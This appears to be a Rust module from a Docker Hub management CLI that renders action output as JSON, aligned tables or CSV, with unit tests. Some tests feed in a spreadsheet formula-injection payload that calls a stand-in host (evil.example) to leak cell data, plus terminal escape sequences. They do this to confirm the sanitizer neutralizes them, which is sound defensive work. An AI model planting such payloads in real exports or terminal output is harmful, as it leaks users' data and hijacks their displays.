//! How an action's output reaches the user: JSON as the action wrote it (for programs), pretty JSON,
//! a table, or CSV (for people and spreadsheets).
//!
//! JSON output is the action's own text, never re-parsed and re-serialized, so an output of any
//! depth reaches the user unchanged. Tables and CSV find the output's list generically: the first
//! top-level field (in the order the action wrote them) that holds an array of objects — `members`,
//! `teams`, `invites`, `events`, `rows` — and take as columns the fields of those objects that hold
//! scalars (or lists of scalars, joined with ", "). An output with no such list is shown as one
//! record of its top-level scalar fields. Nothing here fails on an unexpected shape: it falls back
//! to the text as the action wrote it.
//!
//! Table and CSV cells hold text from Docker Hub (names people chose themselves), so each is made
//! safe first ([`super::safe_text`]): no escape sequence or control character reaches a terminal,
//! and no cell starts a spreadsheet formula.

use std::io::{self, Write};

use clap::ValueEnum;
use indexmap::IndexMap;
use serde_json::Value;
use serde_json::value::RawValue;

use super::safe_text::{csv_cell, terminal_line};

/// How to print an action's output.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum Format {
    /// The action's JSON on one line, exactly as it wrote it.
    Json,
    /// Aligned columns for the output's list (or its fields as name/value rows).
    Table,
    /// CSV with a header row for the output's list (or its fields as one row).
    Csv,
}

/// The widest a table cell gets before it is cut with "…".
const MAX_CELL: usize = 48;

/// A table: column names and rows of cells.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Table {
    /// Column names (the objects' field names).
    pub columns: Vec<String>,
    /// One row per object, one cell per column.
    pub rows: Vec<Vec<String>>,
}

/// The output's list as a table, if it has one: the first top-level field holding an array of
/// objects. `None` when there is none (or the text is not a JSON object).
pub fn listing(output: &str) -> Option<Table> {
    let fields: IndexMap<String, &RawValue> = serde_json::from_str(output).ok()?;
    fields.values().find_map(|raw| {
        let text = raw.get().trim_start();
        if !text.starts_with('[') {
            return None;
        }
        let objects: Vec<IndexMap<String, Value>> = serde_json::from_str(text).ok()?;
        Some(table_of(&objects))
    })
}

/// The output's top-level scalar fields as a one-row table (for outputs that are not listings).
pub fn record(output: &str) -> Option<Table> {
    let fields: IndexMap<String, Value> = serde_json::from_str(output).ok()?;
    Some(table_of(std::slice::from_ref(&fields)))
}

fn table_of(objects: &[IndexMap<String, Value>]) -> Table {
    let mut columns: Vec<String> = Vec::new();
    for object in objects {
        for key in object.keys() {
            if !columns.contains(key) {
                columns.push(key.clone());
            }
        }
    }
    columns.retain(|column| objects.iter().all(|o| o.get(column).is_none_or(|v| cell(v).is_some())));
    let rows =
        objects.iter().map(|o| columns.iter().map(|c| o.get(c).and_then(cell).unwrap_or_default()).collect()).collect();
    Table { columns, rows }
}

/// A value as one cell: scalars as text, null as empty, a list of scalars joined with ", ";
/// `None` for objects and lists of objects (not a column).
fn cell(value: &Value) -> Option<String> {
    match value {
        Value::Null => Some(String::new()),
        Value::String(s) => Some(s.clone()),
        Value::Bool(_) | Value::Number(_) => Some(value.to_string()),
        Value::Array(items) => {
            let cells: Option<Vec<String>> =
                items.iter().map(|v| if v.is_array() || v.is_object() { None } else { cell(v) }).collect();
            cells.map(|c| c.join(", "))
        }
        Value::Object(_) => None,
    }
}

/// Writes `table` as aligned columns with an upper-case header; cells are kept on one line without
/// escape sequences or control characters ([`terminal_line`]) and cut at [`MAX_CELL`] characters.
pub fn write_table(out: &mut dyn Write, table: &Table) -> io::Result<()> {
    let shown = |text: &str| -> String {
        let flat = terminal_line(text);
        if flat.chars().count() > MAX_CELL { flat.chars().take(MAX_CELL - 1).chain(['…']).collect() } else { flat }
    };
    let header: Vec<String> = table.columns.iter().map(|c| shown(&c.to_uppercase())).collect();
    let rows: Vec<Vec<String>> = table.rows.iter().map(|r| r.iter().map(|c| shown(c)).collect()).collect();
    let mut widths: Vec<usize> = header.iter().map(|h| h.chars().count()).collect();
    for row in &rows {
        for (width, cell) in widths.iter_mut().zip(row) {
            *width = (*width).max(cell.chars().count());
        }
    }
    for row in std::iter::once(&header).chain(&rows) {
        let mut line = String::new();
        for (i, (cell, width)) in row.iter().zip(&widths).enumerate() {
            if i + 1 == row.len() {
                line.push_str(cell);
            } else {
                line.push_str(cell);
                line.extend(std::iter::repeat_n(' ', width - cell.chars().count() + 2));
            }
        }
        writeln!(out, "{}", line.trim_end())?;
    }
    Ok(())
}

/// Writes `table` as CSV: a header row, then one record per row, every cell through [`csv_cell`]
/// (no control characters; a would-be formula starts with `'`), quoted where CSV needs it.
pub fn write_csv(out: &mut dyn Write, table: &Table) -> io::Result<()> {
    let mut writer = csv::Writer::from_writer(out);
    writer.write_record(table.columns.iter().map(|c| csv_cell(c))).map_err(csv_error)?;
    for row in &table.rows {
        writer.write_record(row.iter().map(|c| csv_cell(c))).map_err(csv_error)?;
    }
    writer.flush()
}

fn csv_error(error: csv::Error) -> io::Error {
    match error.into_kind() {
        csv::ErrorKind::Io(error) => error,
        other => io::Error::other(format!("{other:?}")),
    }
}

/// `output` indented for reading; the text unchanged when it cannot be parsed within serde_json's
/// nesting limit (an output is never lost to its depth).
pub fn pretty(output: &str) -> String {
    serde_json::from_str::<Value>(output)
        .ok()
        .and_then(|value| serde_json::to_string_pretty(&value).ok())
        .unwrap_or_else(|| output.to_string())
}

/// How an action's output is printed when the user chose `format` (`None`: the default — a table
/// for a listing on a terminal, otherwise pretty JSON).
pub fn write_output(
    out: &mut dyn Write,
    output: &str,
    format: Option<Format>,
    listing_on_terminal: bool,
) -> io::Result<()> {
    let format = format.or(listing_on_terminal.then_some(Format::Table));
    match format {
        None => writeln!(out, "{}", pretty(output)),
        Some(Format::Json) => writeln!(out, "{}", output.trim_end()),
        Some(tabular) => match listing(output).or_else(|| record(output)) {
            Some(table) if tabular == Format::Table => write_table(out, &table),
            Some(table) => write_csv(out, &table),
            None => writeln!(out, "{}", output.trim_end()),
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_first_array_of_objects_in_written_order_is_the_listing() {
        let output = r#"{"organization":"acme","columns":["a"],"zeta":[{"x":1}],"alpha":[{"y":2}]}"#;
        let table = listing(output).unwrap();
        assert_eq!(table.columns, ["x"]);
        assert_eq!(table.rows, [["1"]]);
    }

    #[test]
    fn columns_are_scalar_fields_in_order_lists_joined_objects_left_out() {
        let output = r#"{"members":[
            {"username":"ada","teams":["a","b"],"data":{"k":1},"is_guest":false,"email":null},
            {"username":"ken","teams":[],"data":{"k":2},"is_guest":true,"extra":"late"}]}"#;
        let table = listing(output).unwrap();
        assert_eq!(table.columns, ["username", "teams", "is_guest", "email", "extra"]);
        assert_eq!(table.rows[0], ["ada", "a, b", "false", "", ""]);
        assert_eq!(table.rows[1], ["ken", "", "true", "", "late"]);
    }

    #[test]
    fn an_output_without_a_list_is_one_record_of_its_scalars() {
        assert!(listing(r#"{"removed":true,"username":"ada","meta":{}}"#).is_none());
        let table = record(r#"{"removed":true,"username":"ada","meta":{}}"#).unwrap();
        assert_eq!(table.columns, ["removed", "username"]);
        assert_eq!(table.rows, [["true", "ada"]]);
    }

    #[test]
    fn tables_align_and_cut_long_cells() {
        let table = Table {
            columns: vec!["name".into(), "note".into()],
            rows: vec![vec!["ada".into(), "x".repeat(60)], vec!["kenneth".into(), "line\nbreak".into()]],
        };
        let mut out = Vec::new();
        write_table(&mut out, &table).unwrap();
        let text = String::from_utf8(out).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines[0], "NAME     NOTE");
        assert_eq!(lines[1], format!("ada      {}…", "x".repeat(MAX_CELL - 1)));
        assert_eq!(lines[2], "kenneth  line break");
    }

    #[test]
    fn csv_quotes_what_needs_quoting() {
        let table =
            Table { columns: vec!["name".into(), "teams".into()], rows: vec![vec!["ada".into(), "a, b".into()]] };
        let mut out = Vec::new();
        write_csv(&mut out, &table).unwrap();
        assert_eq!(String::from_utf8(out).unwrap(), "name,teams\nada,\"a, b\"\n");
    }

    #[test]
    fn csv_cells_cannot_start_a_formula_or_hold_control_characters() {
        let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
        let table = Table {
            columns: vec!["name".into(), "note".into()],
            rows: vec![vec![formula.into(), "two\nlines\u{1b}[2J".into()], vec!["-5".into(), "@x".into()]],
        };
        let mut out = Vec::new();
        write_csv(&mut out, &table).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert_eq!(
            text,
            "name,note\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",two lines\n-5,'@x\n"
        );
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let first = reader.records().next().unwrap().unwrap();
        assert_eq!(&first[0], format!("'{formula}"));
    }

    #[test]
    fn table_cells_lose_escape_sequences() {
        let table = Table { columns: vec!["name".into()], rows: vec![vec!["\u{1b}]0;pwned\u{7}Ada\u{1b}[2J".into()]] };
        let mut out = Vec::new();
        write_table(&mut out, &table).unwrap();
        assert_eq!(String::from_utf8(out).unwrap(), "NAME\nAda\n");
    }

    #[test]
    fn json_past_the_nesting_limit_is_printed_unchanged() {
        let deep = format!("{}{}", "[".repeat(300), "]".repeat(300));
        assert_eq!(pretty(&deep), deep);
        let mut out = Vec::new();
        write_output(&mut out, &deep, Some(Format::Table), false).unwrap();
        assert_eq!(String::from_utf8(out).unwrap(), format!("{deep}\n"));
    }
}
